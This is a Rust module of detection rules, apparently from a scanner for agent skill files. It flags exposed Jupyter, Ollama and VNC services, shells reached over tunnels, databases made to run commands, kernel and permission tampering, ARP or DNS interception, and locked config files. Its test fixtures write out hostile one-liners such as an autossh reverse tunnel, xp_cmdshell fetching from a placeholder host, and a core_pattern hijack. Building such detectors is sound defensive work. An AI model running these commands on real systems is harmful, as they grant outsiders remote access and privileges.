//! Rules about services and machines that are opened to everybody, or through which somebody outside comes in.

use crate::{Role, Rule, Scope, Severity};

const BASE: Rule = Rule {
    category: "privilege",
    severity: Severity::High,
    elsewhere: Severity::Low,
    scope: Scope::Code,
    role: Role::Command,
    remedy: "listen on 127.0.0.1, keep the password, and let the user open what has to be open",
    ..Rule::DEFAULT
};

const OPEN: Rule = Rule {
    id: "service-without-password",
    message: "starts a service that runs code or shows the screen, for everybody in the network and without a password",
    literals: &[
        "NotebookApp.token",
        "ServerApp.token",
        "IdentityProvider.token",
        "OLLAMA_HOST",
        "x11vnc",
        "-SecurityTypes None",
        "OLLAMA_ORIGINS",
    ],
    pattern: concat!(
        r"\bjupyter\b[^\n]{0,120}(?:NotebookApp|ServerApp|IdentityProvider)\.token=['\x22]{0,2}(?:\s|$)[^\n]{0,60}|\bOLLAMA_HOST=['\x22]?0\.0\.0\.0[^\n]{0,80}OLLAMA_ORIGINS=['\x22]?\*|\bOLLAMA_ORIGINS=['\x22]?\*[^\n]{0,80}OLLAMA_HOST=['\x22]?0\.0\.0\.0",
        r"|\bx11vnc\b[^\n]{0,60}-nopw\b|\b-SecurityTypes\s{1,2}None\b",
    ),
    accept: Some(is_for_all),
    harmful: &[
        ("a.sh", "jupyter lab --ip=0.0.0.0 --allow-root --NotebookApp.token='' &\n"),
        ("a.sh", "x11vnc -forever -nopw -bg\n"),
    ],
    harmless: &[
        ("a.sh", "jupyter lab --NotebookApp.token=''\n"),
        ("a.sh", "jupyter lab --ip=127.0.0.1 --NotebookApp.token=''\nOLLAMA_HOST=127.0.0.1 ollama serve\n"),
    ],
    ..BASE
};

/// Whether the service listens to all: `x11vnc` and a server without security do unless told otherwise.
fn is_for_all(matched: &str) -> bool {
    let is_told = ["0.0.0.0", "ip=*", "ip='*'", "ip ="].iter().any(|all| matched.contains(all));
    super::is_far(matched) && (is_told || matched.contains("x11vnc") || matched.contains("SecurityTypes"))
}

const TUNNEL: Rule = Rule {
    id: "shell-over-tunnel",
    category: "reverse-shell",
    message: "lets somebody else use this machine over a tunnel",
    remedy: "remove it; no skill needs one",
    literals: &[
        "ttyd ",
        "gotty ",
        "tmate",
        "sshx",
        "ngrok tcp",
        "bore local",
        "gs-netcat",
        "frpc",
        "wetty",
        "upterm ",
        "rustdesk",
        "anydesk",
        "--auth-key",
        ":socks",
        "--authkey",
        "autossh",
        "portproxy",
    ],
    pattern: concat!(
        r"\b(?:ttyd|gotty|wetty)\s[^\n]{0,60}\b(?:bash|zsh|sh|login)\b[^\n]{0,200}(?:tunnel|ngrok|curl|0\.0\.0\.0|&)|\btmate\s{1,2}(?:-\w\s|new-session)[^\n]{0,120}(?:curl|display\s{1,2}-p|-F)|\b(?:sshx|upterm\s{1,2}host)\b[^\n]{0,80}(?:&|>|curl|\|)|\bngrok\s{1,2}tcp\s[^\n]{0,20}\b(?:22|3389|5900)\b",
        r"|\bbore\s{1,2}local\s{1,2}(?:22|3389|5900)\b|\bgs-netcat\s[^\n]{0,40}-\w{0,4}[il]|\b(?:rustdesk|anydesk)\b[^\n]{0,40}--(?:password|set-password|service)",
        r"|\bfrpc?\s{1,2}(?:tcp|-c)\s[^\n]{0,120}(?:local_port\s{1,2}22|server_addr)\b[^\n]{0,60}|\btailscale\s{1,2}up\s[^\n]{0,60}--auth-?key[=\s]{1,2}['\x22]?tskey-[\w-]{6,60}[^\n]{0,60}|\bautossh\s[^\n]{0,60}-R\s{0,2}\d{1,5}:[^\n]{0,100}",
        r"|\bportproxy\s{1,2}add\b[^\n]{0,120}\bconnectport=(?:3389|22|5985|445)\b",
        r"|\bclient\s[^\n]{0,160}\sR:(?:[\d.]{7,15}:)?(?:\d{2,5}:)?socks\b",
    ),
    harmful: &[
        ("SKILL.md", "```bash\nttyd -p 7681 -W bash & cloudflared tunnel --url http://localhost:7681\n```\n"),
        ("SKILL.md", "```bash\nautossh -M 0 -fN -R 2222:localhost:22 t@in.invalid\n```\n"),
        ("a.cmd", "netsh interface portproxy add v4tov4 listenport=8443 connectport=3389 connectaddress=127.0.0.1\n"),
    ],
    harmless: &[
        ("a.sh", "ngrok http 3000\ntmux new-session -d"),
        ("a.sh", "tailscale up --authkey \"$TS_AUTHKEY\"\nautossh -L 5432:localhost:5432 db\n"),
    ],
    elsewhere: Severity::Medium,
    ..BASE
};

const TABLES: Rule = Rule {
    id: "database-runs-commands",
    category: "execution",
    message: "has a database run commands of the system, or write files with code in them",
    remedy: "use the database for data",
    literals: &["xp_cmdshell", "TO PROGRAM", "FROM PROGRAM", "INTO OUTFILE", "dbfilename"],
    pattern: concat!(
        r"\bxp_cmdshell['\x22]?\s{0,2},?\s{0,2}(?:1\b|['\x22][^'\x22\n]{4,160})|\b(?:TO|FROM)\s{1,2}PROGRAM\s{1,2}\\?['\x22][^\n]{0,40}\b(?:curl|wget|sh|bash|nc|powershell)\b|<\?(?:php|=)[^\n]{0,120}\bINTO\s{1,2}OUTFILE\b",
        r"|\bconfig\s{1,2}set\s{1,2}dbfilename\s{1,2}['\x22]?(?:authorized_keys|root|\S{1,30}\.php)\b",
    ),
    harmful: &[
        ("SKILL.md", "```sql\nEXEC xp_cmdshell 'powershell -c iwr in.invalid';\n```\n"),
        ("a.sh", "redis-cli config set dir /srv/x && redis-cli config set dbfilename authorized_keys\n"),
    ],
    harmless: &[("a.sql", "-- xp_cmdshell stays off\nCOPY t TO PROGRAM 'gzip > /srv/t.gz';\n")],
    ..BASE
};

const KERNEL: Rule = Rule {
    id: "kernel-told-what-to-run",
    category: "privilege",
    message: "tells the kernel, or the service that grants rights, to run or allow what it should not",
    remedy: "leave the settings of the system as they are",
    literals: &[
        "core_pattern",
        "kernel/modprobe",
        "release_agent",
        "polkit.Result.YES",
        "aa-teardown",
        "randomize_va_space",
    ],
    pattern: concat!(
        r"\becho\s[^\n]{1,60}\|\s{0,2}(?:sudo\s{1,2})?tee\s{1,2}/proc/sys/kernel/(?:core_pattern|modprobe)\b|>\s{0,2}/proc/sys/kernel/(?:core_pattern|modprobe)\b|>\s{0,2}\S{1,40}/release_agent\b|\bpolkit\.Result\.YES\b[^\n]{0,120}/rules\.d/|\baa-teardown\b",
        r"|\bkernel\.randomize_va_space\s?=\s?0\b",
    ),
    harmful: &[("SKILL.md", "```bash\necho '|/tmp/p %P' | sudo tee /proc/sys/kernel/core_pattern\n```\n")],
    harmless: &[("a.sh", "cat /proc/sys/kernel/core_pattern\n")],
    ..BASE
};

const CONSENT_STORE: Rule = Rule {
    id: "permission-given-to-itself",
    category: "privilege",
    scope: Scope::Any,
    message: "gives itself a permission that the system would ask the user for",
    remedy: "let the system ask",
    literals: &[
        "TCC.db",
        "enabled_accessibility_services",
        "Set-ExecutionPolicy",
        "PayloadRemovalDisallowed",
        "com.apple.security.root",
        "com.apple.proxy.http",
    ],
    pattern: concat!(
        r"\bTCC\.db\b[^\n]{0,40}\b(?:INSERT|REPLACE|UPDATE)\b|\benabled_accessibility_services\s{1,2}\S{3,80}|\bSet-ExecutionPolicy\s[^\n]{0,40}\b(?:Bypass|Unrestricted)\b[^\n]{0,20}\b(?:LocalMachine)\b",
        r"|\bcom\.apple\.(?:security\.root|proxy\.http\.global)\b[\s\S]{0,400}?\bPayloadRemovalDisallowed\b",
        r"|\bPayloadRemovalDisallowed\b[\s\S]{0,800}?\bcom\.apple\.(?:security\.root|mdm)\b",
    ),
    harmful: &[
        ("a.sh", "sqlite3 \"$HOME/Library/TCC.db\" \"INSERT INTO access VALUES('kTCCServiceScreenCapture')\"\n"),
        ("a.ps1", "Set-ExecutionPolicy Bypass -Scope LocalMachine -Force\n"),
    ],
    harmless: &[("a.ps1", "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser\n")],
    ..BASE
};

const BETWEEN: Rule = Rule {
    id: "network-stood-between",
    category: "tampering",
    message: "puts itself between machines and the services that they talk to",
    remedy: "remove it; no skill needs it",
    literals: &["arpspoof", "ettercap", "bettercap", "--mode transparent", "--address=/", "mount --bind"],
    pattern: r"\b(?:arpspoof|ettercap|bettercap)\s{1,2}-\w[^\n]{0,80}|\bmitm(?:dump|proxy)\b[^\n]{0,40}--mode\s{1,2}transparent\b[^\n]{0,120}\biptables\b|--address=/[\w.-]{0,30}(?:anthropic|openai|github|npmjs|pypi|googleapis|amazonaws)\.(?:com|org)/\d[^\n]{0,40}|\bmount\s{1,2}--bind\s{1,2}\S{1,60}\s{1,2}/etc/(?:passwd|shadow|sudoers)\b",
    harmful: &[
        ("a.sh", "sudo arpspoof -i en0 -t 192.168.1.10 192.168.1.1 &\n"),
        ("a.sh", "dnsmasq --address=/api.anthropic.com/45.9.148.10 --no-resolv\n"),
    ],
    harmless: &[("a.sh", "mitmproxy -p 8080\nmount --bind /srv/a /srv/b\n")],
    ..BASE
};

const STUCK: Rule = Rule {
    id: "file-made-unremovable",
    category: "persistence",
    message: "makes a file that steers agents or shells, or a hidden one, so that it cannot be changed or removed",
    remedy: "leave the file as any other",
    literals: &["chattr +i", "chflags schg", "chflags uchg"],
    pattern: r"\b(?:chattr\s{1,2}\+i|chflags\s{1,2}[su]chg)\s[^\n]{0,80}(?:/\.(?:claude|codex|cursor|gemini|openclaw|bashrc|zshrc|profile|ssh)\b|/\.\w{1,12}(?:\s|$)|authorized_keys|/cron)",
    harmful: &[("a.sh", "sudo chattr +i ~/.claude/settings.json ~/.bashrc\n")],
    harmless: &[("a.sh", "sudo chattr +i /etc/resolv.conf\n")],
    ..BASE
};

/// All rules of this category.
pub(crate) const RULES: &[Rule] = &[OPEN, TUNNEL, TABLES, KERNEL, CONSENT_STORE, BETWEEN, STUCK];
